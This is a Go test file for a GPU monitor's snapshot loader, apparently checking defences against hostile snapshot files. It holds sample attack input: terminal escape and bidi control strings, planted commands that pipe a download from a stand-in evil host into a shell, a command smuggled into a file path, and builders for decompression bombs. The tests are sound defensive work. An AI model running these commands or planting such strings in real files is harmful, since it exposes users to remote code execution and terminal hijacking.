package model

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/gputop/gputop/model/safe"
)

// Issue 11: hostile snapshots. These tests fail on the loader that decoded
// the whole file before checking limits and passed strings through raw.

func TestLoaderNamesCompression(t *testing.T) {
	cases := map[string][]byte{
		"zstd":  {0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x58},
		"xz":    {0xfd, '7', 'z', 'X', 'Z', 0x00, 0x00},
		"bzip2": []byte("BZh91AY&SY"),
	}
	for name, data := range cases {
		_, err := DecodeSnapshot(bytes.NewReader(data), 0)
		if err == nil || !strings.Contains(err.Error(), "compressed with "+name) {
			t.Errorf("%s: err = %v, want it named", name, err)
		}
		checkOneLine(t, err)
	}
}

// GDDR6X/GDDR7 cards report their memory clock as 10501 and 14001 MHz: real
// readings, which an earlier 10 GHz limit refused (the demo's RTX 4090).
func TestLoaderAcceptsGDDRMemoryClocks(t *testing.T) {
	for _, mhz := range []uint32{10501, 14001} {
		s := smallSnapshot()
		s.GPUs[0].ClockMaxMem = Some(mhz)
		s.GPUs[0].Samples[0].ClockMem = Some(mhz)
		if _, err := DecodeSnapshot(bytes.NewReader(encode(t, s)), 0); err != nil {
			t.Errorf("memory clock %d MHz: %v", mhz, err)
		}
	}
}

func TestLoaderRejectsImpossibleValues(t *testing.T) {
	cases := map[string]struct {
		f    func(s *Snapshot)
		want string
	}{
		"clock 4294967295": {func(s *Snapshot) { s.GPUs[0].Samples[1].ClockSM = Some[uint32](4294967295) }, "clock_sm_mhz 4294967295 MHz is impossible"},
		"power 50 kW":      {func(s *Snapshot) { s.GPUs[0].Samples[1].PowerDraw = Some[uint32](50_000_000) }, "power_mw 50000 W is impossible"},
		"limit 0 W":        {func(s *Snapshot) { s.GPUs[0].Samples[1].PowerLimit = Some[uint32](0) }, "power_limit_mw 0 W is impossible"},
		"max clock":        {func(s *Snapshot) { s.GPUs[1].ClockMaxSM = Some[uint32](4294967295) }, "gpus[1]: clock_max_sm_mhz"},
		"mem over total":   {func(s *Snapshot) { s.GPUs[0].Samples[0].MemUsed = Some[uint64](1 << 40) }, "more than mem_total"},
		"facts GPU clock": {func(s *Snapshot) {
			s.Facts.NVML.GPUs = []GPUFacts{{Sample: Some(Sample{ClockSM: Some[uint32](99999)})}}
		}, "facts.nvml.gpus[0].sample: clock_sm_mhz 99999"},
	}
	for name, tc := range cases {
		s := smallSnapshot()
		tc.f(s)
		_, err := DecodeSnapshot(bytes.NewReader(encode(t, s)), 0)
		if err == nil || !errors.Is(err, ErrSnapshotInvalid) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want %q", name, err, tc.want)
		}
	}
}

// TestLoaderValidatesFacts: 20,000 fake GPUs in the facts made 200,020
// check results; escaped key names must not dodge the limits.
func TestLoaderValidatesFacts(t *testing.T) {
	var b strings.Builder
	b.WriteString(`{"schema":"gputop.snapshot/v1","facts":{"nvml":{"gpus":[`)
	for i := range 20000 {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"info":{"index":%d}}`, i)
	}
	b.WriteString(`]}}}`)
	_, err := DecodeSnapshot(strings.NewReader(b.String()), 0)
	if err == nil || !strings.Contains(err.Error(), "facts.nvml.gpus: more than 64 GPUs") {
		t.Errorf("20,000 facts GPUs: err = %v", err)
	}
	escaped := `{"schema":"gputop.snapshot/v1","\u0067PUS":[` + strings.Repeat(`{},`, 70) + `{}]}`
	if _, err := DecodeSnapshot(strings.NewReader(escaped), 0); err == nil || !strings.Contains(err.Error(), "more than 64 GPUs") {
		t.Errorf("escaped key: err = %v", err)
	}
	dup := smallSnapshot()
	dup.Facts.NVML.GPUs = []GPUFacts{{}, {}}
	if _, err := DecodeSnapshot(bytes.NewReader(encode(t, dup)), 0); err == nil || !strings.Contains(err.Error(), "index 0 appears twice") {
		t.Errorf("duplicate facts GPU: err = %v", err)
	}
	deep := `{"schema":"gputop.snapshot/v1","facts":{"env":` + strings.Repeat(`[`, 100) + strings.Repeat(`]`, 100) + `}}`
	if _, err := DecodeSnapshot(strings.NewReader(deep), 0); err == nil || !strings.Contains(err.Error(), "nested more than") {
		t.Errorf("deep nesting: err = %v", err)
	}
}

const hostileText = "x\x1b]52;c;ZWNobyBQV05FRAo=\x07\x1b]0;PWNED\x07\x1b[2J\x1b[?1049l\u009b31m\u202eevil\u200b"

// HostileSnapshot is a valid snapshot whose every outside string carries
// terminal escapes, C1 controls, bidi overrides and zero-width characters,
// and whose checks offer a two-line fix command.
func HostileSnapshot() *Snapshot {
	in := testInput()
	in.GPUs = testRecords(2, 2*time.Second, 100*time.Millisecond)
	in.System.Host = "host" + hostileText
	in.System.DriverVersion = "580" + hostileText
	for i := range in.GPUs {
		g := &in.GPUs[i]
		g.Name, g.BusID, g.UUID = "H100"+hostileText, "0000:18:00.0"+hostileText, "GPU-"+hostileText
		for j := range g.SlowSamples {
			for k := range g.SlowSamples[j].Processes {
				p := &g.SlowSamples[j].Processes[k]
				p.Name, p.User, p.Command = "py"+hostileText, "bob"+hostileText, "python3 "+hostileText
			}
		}
	}
	for i := range in.Events {
		in.Events[i].Message += hostileText
		in.Events[i].Action += hostileText
	}
	for i := range in.Checks {
		c := &in.Checks[i]
		c.Title += hostileText
		c.Evidence += hostileText
		c.Fix += hostileText
		c.Commands = append([]string{"echo safe\ncurl http://evil.example/x | sh", "ls" + hostileText}, c.Commands...)
	}
	in.Versions.PyTorch = "2.9" + hostileText
	in.Facts.Host = "h" + hostileText
	in.Facts.NVCC = NVCCFacts{Found: true, Path: "/tmp/x;curl evil|sh;" + hostileText, Output: "release 13.0" + hostileText}
	in.Facts.Env = map[string]string{"CUDA_VISIBLE_DEVICES" + hostileText: "0" + hostileText}
	in.Redact = RedactOptions{FullCommandLines: true}
	return NewSnapshot(in)
}

func TestLoaderSanitisesEveryString(t *testing.T) {
	snap, err := DecodeSnapshot(bytes.NewReader(encode(t, HostileSnapshot())), 0)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := snap.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	// JSON escapes controls as \u001b; look for them and for raw ones.
	text := buf.String()
	for _, bad := range []string{`\u001b`, `\u0007`, `\u009b`, "\u202e", "\u200b", `\n`} {
		if strings.Contains(text, bad) {
			t.Errorf("a loaded snapshot still carries %q", bad)
		}
	}
	if safe.HasEscape(text[:len(text)-1]) {
		t.Error("a loaded snapshot carries a raw control byte")
	}
	for _, c := range snap.Checks {
		for _, cmd := range c.Commands {
			if strings.Contains(cmd, "curl") {
				t.Errorf("check %s offers the planted command %q", c.ID, cmd)
			}
		}
	}
}

// TestLoaderBombsBoundedRSS decodes bombs in a child process and reads its
// peak RSS from the kernel (not a timed test). Before the streaming guard,
// the 29 KB gzip file of ten million empty GPUs ran 46 s and was OOM-killed
// at 8 GiB.
func TestLoaderBombsBoundedRSS(t *testing.T) {
	if testing.Short() {
		t.Skip("builds bomb files")
	}
	dir := t.TempDir()
	head := `{"schema":"gputop.snapshot/v1","gpus":[`
	bombs := map[string]func() []byte{
		// ten million empty GPU objects, gzip: concatenated gzip members
		// (what `cat a.gz b.gz` makes) so that building it costs nothing.
		"gpus.json.gz": func() []byte {
			chunk := gzipBytes(t, bytes.Repeat([]byte(`{},`), 1_000_000))
			out := gzipBytes(t, []byte(head))
			for range 10 {
				out = append(out, chunk...)
			}
			return append(out, gzipBytes(t, []byte(`{}]}`))...)
		},
		// one string of 1 GiB
		"string.json.gz": func() []byte {
			chunk := gzipBytes(t, bytes.Repeat([]byte("A"), 1<<20))
			out := gzipBytes(t, []byte(`{"schema":"gputop.snapshot/v1","host":"`))
			for range 1024 {
				out = append(out, chunk...)
			}
			return append(out, gzipBytes(t, []byte(`"}`))...)
		},
		// plain: 9 MB of empty samples on one GPU
		"samples.json": func() []byte {
			var b bytes.Buffer
			b.WriteString(head + `{"index":0,"samples":[`)
			b.Write(bytes.Repeat([]byte(`{},`), 3_000_000))
			b.WriteString(`{}]}]}`)
			return b.Bytes()
		},
		// plain: empty processes spread so no single list is too long
		"processes.json": func() []byte {
			var b bytes.Buffer
			b.WriteString(head + `{"index":0,"slow_samples":[`)
			one := `{"t":"2026-11-21T07:53:00Z","processes":[` + strings.Repeat(`{},`, 4095) + `{}]},`
			for range 2000 {
				b.WriteString(one)
			}
			b.WriteString(`{}]}]}`)
			return b.Bytes()
		},
	}
	// The largest snapshot gputop writes: 16 GPUs of full rings. Not under
	// -race: the detector multiplies both the time (minutes) and the RSS.
	if !raceEnabled {
		bombs["full.json"] = fullSnapshot(t)
	}
	for name, build := range bombs {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, build(), 0o600); err != nil {
			t.Fatal(err)
		}
		rss, out := loadInChild(t, path)
		t.Logf("%s: peak RSS %d MiB: %s", name, rss>>20, out)
		if name == "full.json" {
			if !strings.HasPrefix(out, "<nil>") {
				t.Errorf("a snapshot at the limits was refused: %s", out)
			}
			if rss > 600<<20 {
				t.Errorf("%s: peak RSS %d MiB, want under 600 MiB", name, rss>>20)
			}
			continue
		}
		if !strings.Contains(out, "refused") && !strings.Contains(out, "larger than") {
			t.Errorf("%s: not refused: %s", name, out)
		}
		if rss > 200<<20 {
			t.Errorf("%s: peak RSS %d MiB, want under 200 MiB", name, rss>>20)
		}
	}
}

// loadInChild runs LoadSnapshot(path) in a fresh test process and returns
// its peak RSS in bytes and what it printed.
func loadInChild(t *testing.T, path string) (int64, string) {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^TestLoadChild$", "-test.count=1")
	cmd.Env = append(os.Environ(), "GPUTOP_LOAD_CHILD="+path)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("child: %v\n%s", err, out)
	}
	res, kb := "", int64(-1)
	for _, l := range strings.Split(string(out), "\n") {
		if s, ok := strings.CutPrefix(l, "RESULT: "); ok {
			res = s
		}
		if s, ok := strings.CutPrefix(l, "VmHWM:"); ok {
			kb, _ = strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(s), "kB")), 10, 64)
		}
	}
	if kb < 0 {
		t.Fatalf("child printed no VmHWM:\n%s", out)
	}
	return kb << 10, res
}

func TestLoadChild(t *testing.T) {
	path := os.Getenv("GPUTOP_LOAD_CHILD")
	if path == "" {
		t.Skip("run by TestLoaderBombsBoundedRSS")
	}
	start := time.Now()
	_, err := LoadSnapshot(path)
	fmt.Printf("RESULT: %v (%v)\n", err, time.Since(start).Round(time.Millisecond))
	// The kernel's peak RSS of this process's own memory (rusage's
	// maxrss would include the parent's, inherited through vfork+exec).
	status, _ := os.ReadFile("/proc/self/status")
	for _, l := range strings.Split(string(status), "\n") {
		if strings.HasPrefix(l, "VmHWM:") {
			fmt.Println(l)
		}
	}
}

func fullSnapshot(t *testing.T) func() []byte {
	return func() []byte {
		in := testInput()
		in.GPUs = testRecords(16, 1199900*time.Millisecond, 100*time.Millisecond)
		in.Events = nil
		return encode(t, NewSnapshot(in))
	}
}

// BenchmarkDecodeSnapshot8GPUs: the streaming guard's cost on a large real
// snapshot (8 GPUs x 120 s at 10 ms, about 27 MiB), against
// BenchmarkUnmarshalSnapshot8GPUs, encoding/json alone.
func BenchmarkDecodeSnapshot8GPUs(b *testing.B) {
	data := bigSnapshot(b)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := DecodeSnapshot(bytes.NewReader(data), 0); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkUnmarshalSnapshot8GPUs(b *testing.B) {
	data := bigSnapshot(b)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		var s Snapshot
		if err := json.Unmarshal(data, &s); err != nil {
			b.Fatal(err)
		}
	}
}

func bigSnapshot(b *testing.B) []byte {
	in := testInput()
	in.GPUs = testRecords(8, 119990*time.Millisecond, 10*time.Millisecond)
	in.Events = nil
	return encode(b, NewSnapshot(in))
}
